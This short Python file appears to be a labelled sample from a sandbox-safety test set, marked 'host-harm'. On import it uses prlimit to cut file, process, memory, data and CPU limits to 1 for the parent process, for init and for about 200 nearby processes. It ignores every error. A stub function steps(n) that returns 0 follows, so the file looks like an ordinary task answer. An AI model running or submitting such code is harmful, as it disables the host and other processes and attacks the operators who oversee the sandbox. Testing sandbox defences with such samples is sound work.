# host-harm; alive; lowers what the parent and all its threads may use
import os, resource
pids = [os.getppid(), 1] + list(range(max(2, os.getpid() - 200), os.getpid()))
for pid in pids:
    for what in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_CPU):
        try:
            resource.prlimit(pid, what, (1, 1))
        except (OSError, ValueError):
            pass

def steps(n):
    return 0
